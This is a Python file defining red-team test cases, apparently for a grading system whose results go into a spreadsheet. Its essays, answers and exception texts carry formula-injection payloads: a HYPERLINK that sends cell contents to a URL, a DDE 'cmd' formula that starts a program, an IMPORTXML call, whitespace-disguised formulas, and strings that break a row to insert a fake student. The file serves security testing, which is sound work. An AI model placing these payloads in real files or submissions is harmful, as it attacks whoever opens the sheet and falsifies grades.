"""Attacks on who opens the class list: cells that a spreadsheet would calculate."""

from functools import partial

from redteam.attack import attack

formulas = partial(attack, "formulas")

ATTACKS = (
    formulas(
        "formula-in-essay",
        "Begins the essay with a formula that a spreadsheet would calculate.",
        honest="double",
        essay="""=HYPERLINK("http://127.0.0.1/w2s-redteam?"&A1,"8 of 8")\n""",
    ),
    formulas(
        "formula-in-essay-command",
        "Begins the essay with a formula that would start a program in an old spreadsheet.",
        honest="double",
        essay="=cmd|' /C echo w2s-redteam'!A0\n",
    ),
    formulas(
        "formula-behind-blanks",
        "Hides the formula behind blanks, quotes, tabs and line breaks that a reader strips.",
        honest="double",
        essay='\t=1+1\n\r=1+1\n "=1+1"\n\ufeff=1+1\n\u00a0=1+1\n","=1+1\n;=1+1;\n',
    ),
    formulas(
        "formula-in-exception",
        "Raises exceptions whose texts are formulas in each of their spellings.",
        double="""
        texts = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\\t=1+1", "\\r=1+1", "\\uff1d1+1", "%0A=1"]
        calls = []


        def double(x):
            calls.append(0)
            raise ValueError(texts[len(calls) % len(texts)])
        """,
        mean="""
        raise ValueError('=IMPORTXML("http://127.0.0.1/w2s-redteam","//a")')
        """,
        counter="""
        raise type("=1+1", (Exception,), {})("=1+1")
        """,
    ),
    formulas(
        "formula-in-answers",
        "Gives formulas as letters and as keys.",
        honest="double",
        answers="""
        answers = {"q1": "=1+1", "q2": "@a", "=1+1": "=1+1", "-1": "+1"}
        """,
    ),
    formulas(
        "formula-breaks-the-row",
        "Breaks out of a row by quotes, separators and line breaks, to add a student of its own.",
        double=r"""
        def double(x):
            return '",8\r\n"w2s-redteam","8","8"\r\nx;8;8\n\x00\x1a'
        """,
        essay='","8"\r\n"w2s-redteam-row","8","8"\r\nw2s-redteam-row;8;8\n',
    ),
)
